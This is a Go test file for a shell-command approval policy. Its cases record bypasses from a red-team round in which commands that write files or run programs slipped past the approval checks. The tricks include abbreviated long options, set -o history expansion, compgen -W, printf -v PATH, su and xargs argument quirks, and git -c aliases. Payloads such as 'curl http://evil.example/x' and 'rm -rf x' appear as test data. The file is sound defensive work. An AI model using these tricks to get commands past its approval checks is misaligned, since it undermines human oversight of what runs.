package execpolicy

import "testing"

// TestKnownSafeBypasses2 holds commands found by a second red-team round
// that the known-safe list took for read-only, so that the untrusted
// approval policy ran them without asking, although each writes a file or
// runs a program (checked with the GNU tools). safe says whether the
// command must be known safe: the controls next to each case show that the
// fix did not just drop the program from the list.
func TestKnownSafeBypasses2(t *testing.T) {
	p := NewPolicy()
	tests := []struct {
		name   string
		script string
		safe   bool
	}{
		// GNU getopt takes any unambiguous prefix of a long option.
		{"sort --outp", "sort --outp=out f", false},
		{"sort --ou value", "sort --ou out f", false},
		{"sed --i", "sed --i s/a/b/ f", false},
		{"sed --in-pl", "sed --in-pl s/a/b/ f", false},
		{"sed --fi", "sed --fi=script f", false},
		{"file --compi", "file --compi -m magic", false},
		{"date --se", "date --se=2020-01-01", false},
		{"date --s", "date --s 2020-01-01", false},
		{"sort --unique", "sort --unique f", true},
		{"sed --posix", "sed --posix -n 1p f", true},
		{"date --utc", "date --utc", true},
		// sed -l takes a value: the script is the word after it.
		{"sed -l value", "sed -l 5 'w out' f", false},
		{"sed -nl value", "sed -nl 5 'w out' f", false},
		{"sed --l value", "sed --l 5 'w out' f", false},
		// After -- every word is an operand: uniq's second one is the
		// file it writes.
		{"uniq -- output", "uniq -- in -x", false},
		{"uniq -c", "uniq -c in", true},
		{"uniq -- input", "uniq -- in", true},
		// printf -v may be given more than once; the last one wins.
		{"printf -v twice", "printf -v x -v PATH /tmp/evil", false},
		{"printf -vx -vPATH", "printf -vx -vPATH /tmp/evil", false},
		{"printf", "printf %s x", true},
		// ripgrep runs the --hostname-bin program to label hyperlinks.
		{"rg --hostname-bin", "rg --hostname-bin=./x foo", false},
		{"rg --hostname-bin value", "rg --hostname-bin ./x foo", false},
		{"rg", "rg -n foo", true},
	}
	for _, tt := range tests {
		ev := p.Evaluate([]string{tt.script}, EvalOptions{Shell: true})
		if ev.KnownSafe != tt.safe {
			t.Errorf("%s: %q: KnownSafe = %v, want %v; reasons %v", tt.name, tt.script, ev.KnownSafe, tt.safe, ev.Reasons)
		}
		if ev.Decision != Prompt {
			t.Errorf("%s: %q: %v, want prompt (no rule matches)", tt.name, tt.script, ev.Decision)
		}
	}
}

// TestEvaluateBypasses2 holds scripts of the second red-team round that
// run, under bash, a command the rules forbid or do not allow, while the
// analysis found no forbidden one or allowed them.
func TestEvaluateBypasses2(t *testing.T) {
	p := bypassPolicy()
	tests := []struct {
		name   string
		script string
		want   Decision
	}{
		// Every o of a set cluster takes an option name: -eo keyword
		// makes ls's LD_PRELOAD=x argument an environment assignment.
		{"set -eo keyword", "set -eo keyword; ls LD_PRELOAD=/tmp/evil.so", Prompt},
		{"set -oo keyword", "set -oo errexit keyword; ls X=1", Prompt},
		{"set -eo pipefail", "set -eo pipefail; ls", Allow},
		{"set +eo keyword", "set +eo keyword; ls", Allow},
		// Once history expansion is on, bash expands "!!:1" before it
		// parses the line: the quoted ; of the line before ends echo.
		{"set -H history", "set -o history -H\necho '\";rm -rf y;\"'\necho \"!!:1\"", Prompt},
		{"set -Ho history", "set -Ho history\necho hi", Prompt},
		{"set -o histexpand", "set -o histexpand -o history\necho hi", Prompt},
		{"set -eo history", "set -eo history\necho hi", Prompt},
		{"shopt -os history", "shopt -os history histexpand\necho hi", Prompt},
		{"set +H", "set +H\necho hi", Allow},
		// compgen -W expands the words of its word list.
		{"compgen -W", "compgen -W '$(curl http://evil.example/x)' y", Forbidden},
		{"compgen -W backticks", "compgen -W '`rm -rf x`'", Forbidden},
		{"compgen -W unknown", "compgen -W '$(whoami)' y", Prompt},
		{"compgen -aW", "compgen -aW '$(whoami)'", Prompt},
		{"compgen -A", "compgen -A file x", Allow},
		{"compgen -W words", "compgen -W 'start stop' st", Allow},
		// printf -v may be given more than once: PATH picks the ls run.
		{"printf -v PATH", "printf -v x -v PATH /tmp/evil; ls", Prompt},
		{"printf -v subscript second", "printf -v x -v 'a[$(curl http://evil.example/x)]' 1", Forbidden},
		{"printf -v lower", "printf -v x %s 1; ls", Allow},
		{"printf -- -v", "printf -- -v; ls", Allow},
		// timeout -- DURATION COMMAND: the duration follows --.
		{"timeout --", "timeout -- 5 rm -rf x", Forbidden},
		{"timeout -s --", "timeout -s KILL -- 5 curl http://evil.example/x", Forbidden},
		{"taskset --", "taskset -- 1 rm x", Forbidden},
		// chrt PRIORITY COMMAND: the priority is an operand.
		{"chrt priority", "chrt -o 0 rm -rf x", Forbidden},
		{"chrt -- priority", "chrt -- 5 curl http://evil.example/x", Forbidden},
		{"chrt without priority", "chrt --other rm x", Forbidden},
		// bash's time keyword takes -- after it (and after -p).
		{"time --", "time -- rm -rf x", Forbidden},
		{"time -p --", "time -p -- curl http://evil.example/x", Forbidden},
		{"time -- unknown", "time -- whoami", Prompt},
		{"time -- --", "time -- -- rm x", Prompt},
		{"time alone", "time", Prompt},
		{"time -p alone", "time -p", Prompt},
		{"time -- redirect", "time -- >/dev/null", Prompt},
		// GNU getopt takes a unique prefix of a long option: these are
		// env --split-string, su --command and script --command.
		{"env --sp=", "env --sp='rm -rf x'", Forbidden},
		{"env --s", "env --s 'curl http://evil.example/x'", Forbidden},
		{"su --comm=", "su --comm='rm -rf x'", Forbidden},
		{"su --co value", "su --co 'rm -rf x' root", Forbidden},
		{"script --comm=", "script -q --comm='rm x' /dev/null", Forbidden},
		{"env --unset abbreviated", "env --uns=X ls", Prompt},
		{"env --i ambiguous", "env --i rm x", Forbidden},
		// su and script permute their arguments: -c may follow the user
		// or the typescript file.
		{"su USER -c", "su root -c 'rm -rf x'", Forbidden},
		{"su - USER -c", "su - root -c 'curl http://evil.example/x'", Forbidden},
		{"su USER --command=", "su root --command='rm x'", Forbidden},
		// su passes the words after the user to the shell: -c CMD too.
		{"su USER -- -c", "su root -- -c 'rm -rf x'", Forbidden},
		{"su USER -- script", "su root -- x.sh", Prompt},
		{"script FILE -c", "script -q /dev/null -c 'rm -rf x'", Forbidden},
		{"su USER", "su root", Prompt},
		{"su -- USER -c", "su -- root -c x", Prompt},
		// Wrappers the first round did not list.
		{"toybox", "toybox rm -rf x", Forbidden},
		{"run0", "run0 --user=root curl http://evil.example/x", Forbidden},
		{"runuser -u", "runuser -u root -- rm -rf x", Forbidden},
		{"runuser -c", "runuser -c 'rm x' root", Forbidden},
		{"runuser unknown", "runuser root", Prompt},
		// xargs's --replace, --eof and --max-lines take a value only after
		// =: the next word is the command.
		{"xargs --replace", "xargs --replace rm x", Forbidden},
		{"xargs --eof", "xargs --eof rm x", Forbidden},
		{"xargs --max-lines", "xargs --max-lines curl http://evil.example/x", Forbidden},
		{"xargs --replace=", "xargs --replace=rm whoami", Prompt},
		{"xargs --process-slot-var", "xargs --process-slot-var rm whoami", Prompt},
	}
	for _, tt := range tests {
		if ev := p.Evaluate([]string{tt.script}, EvalOptions{Shell: true}); ev.Decision != tt.want {
			t.Errorf("%s: %q: %v, want %v; reasons %v", tt.name, tt.script, ev.Decision, tt.want, ev.Reasons)
		}
	}
}

// TestEvaluateInputCommands: GNU parallel given no command runs its input
// lines, or the arguments after :::, as commands, so an allow rule for
// parallel must not allow it.
func TestEvaluateInputCommands(t *testing.T) {
	p := bypassPolicy()
	p.AddPrefixRule(PrefixRule{Program: "parallel", Decision: Allow, Source: "bypass"})
	tests := []scriptCase{
		{"parallel -a cmds", Prompt},
		{"parallel -j2", Prompt},
		{"parallel :::: cmds", Prompt},
		{"parallel ::: 'rm -rf x' ls", Forbidden},
		{"parallel -j 2 ::: ls 'curl http://evil.example/x'", Forbidden},
		{"parallel ::: ls", Prompt},
		{"parallel ls ::: a b", Allow},
		{"parallel rm ::: a", Forbidden},
	}
	checkScripts(t, p, tests)
}

// TestFloorAbbreviations: GNU getopt and git take a unique prefix of a long
// option, so an abbreviated --force or --hard must still raise an allowed
// command to prompt (both checked with rm and git).
func TestFloorAbbreviations(t *testing.T) {
	p := NewPolicy()
	for _, prog := range []string{"rm", "git", "chmod", "systemctl"} {
		p.AddPrefixRule(PrefixRule{Program: prog, Decision: Allow, Source: "floor"})
	}
	tests := []scriptCase{
		{"rm --rec --for /home/x", Prompt},
		{"rm -r --fo /home/x", Prompt},
		{"git reset --har HEAD", Prompt},
		{"git push --force-w origin main", Prompt},
		{"git push --mir origin", Prompt},
		{"chmod --rec 777 /", Prompt},
		// A power target started is the power action.
		{"systemctl start reboot.target", Prompt},
		{"systemctl isolate poweroff.target", Prompt},
		{"systemctl --no-block start halt.target", Prompt},
		{"systemctl start nginx.service", Allow},
		{"systemctl status reboot.target", Allow},
		{"rm -r --verbose /home/x", Allow},
		{"rm --rec --for /tmp/x", Allow},
		{"git reset --soft HEAD", Allow},
		{"git push origin main", Allow},
	}
	for _, tt := range tests {
		ev := p.Evaluate([]string{tt.script}, EvalOptions{Shell: true})
		if ev.Decision != tt.want || ev.Dangerous != (tt.want == Prompt) {
			t.Errorf("%q: %v (dangerous %v), want %v; reasons %v", tt.script, ev.Decision, ev.Dangerous, tt.want, ev.Reasons)
		}
	}
}

// TestGitConfigOptions: git -c KEY=VALUE before the subcommand sets a
// setting that may be a command git runs (an alias starting with ! runs
// a shell), so an allow rule for git says nothing about it.
func TestGitConfigOptions(t *testing.T) {
	p := bypassPolicy()
	p.AddPrefixRule(PrefixRule{Program: "git", Decision: Allow, Source: "git"})
	tests := []scriptCase{
		{"git -c alias.x='!rm -rf x' x", Forbidden},
		{"git -c 'alias.x=!curl http://evil.example/x' x", Forbidden},
		{"git -c core.pager=less log", Prompt},
		{"git -C /repo -c core.fsmonitor=whoami status", Prompt},
		{"git --git-dir /r/.git -c core.sshCommand=x fetch", Prompt},
		{"git --config-env=core.pager=X log", Prompt},
		{"git --exec-path=/tmp/evil foo", Prompt},
		// Subcommands whose options or operands are commands git runs.
		{"git rebase -x 'rm -rf x' main", Forbidden},
		{"git rebase --exec=whoami main", Prompt},
		{"git rebase --ex whoami main", Prompt},
		{"git -C /repo rebase -xwhoami main", Prompt},
		{"git bisect run rm -rf x", Forbidden},
		{"git bisect run make test", Prompt},
		{"git submodule foreach 'curl http://evil.example/x'", Forbidden},
		{"git submodule --quiet foreach --recursive 'git pull'", Prompt},
		{"git grep -Oless foo", Prompt},
		{"git difftool -x meld HEAD", Prompt},
		{"git clone -u 'rm -rf x' host:r", Forbidden},
		{"git fetch --upload-pack=whoami origin", Prompt},
		{"git push --receive-pack whoami origin", Prompt},
		{"git archive --exec=whoami --remote=r HEAD", Prompt},
		{"git rebase main", Allow},
		{"git fetch -u origin", Allow},
		{"git bisect start", Allow},
		{"git submodule update --init", Allow},
		{"git grep -n foo", Allow},
		{"git --attr-source HEAD -c alias.x='!rm -rf x' x", Forbidden},
		{"git --shallow-file f -c core.pager=less log", Prompt},
		{"git --attr-source HEAD log", Allow},
		{"git log -c", Allow},
		{"git commit -c HEAD", Allow},
		{"git -C /repo status", Allow},
		{"git --no-pager log", Allow},
		{"git -C -c status", Allow},
	}
	checkScripts(t, p, tests)
}

// scriptCase is a script, judged as run --shell judges it, and the
// decision it must get.
type scriptCase struct {
	script string
	want   Decision
}

// checkScripts judges each case's script under p.
func checkScripts(t *testing.T, p *Policy, cases []scriptCase) {
	t.Helper()
	for _, c := range cases {
		if ev := p.Evaluate([]string{c.script}, EvalOptions{Shell: true}); ev.Decision != c.want {
			t.Errorf("%q: %v, want %v; reasons %v", c.script, ev.Decision, c.want, ev.Reasons)
		}
	}
}
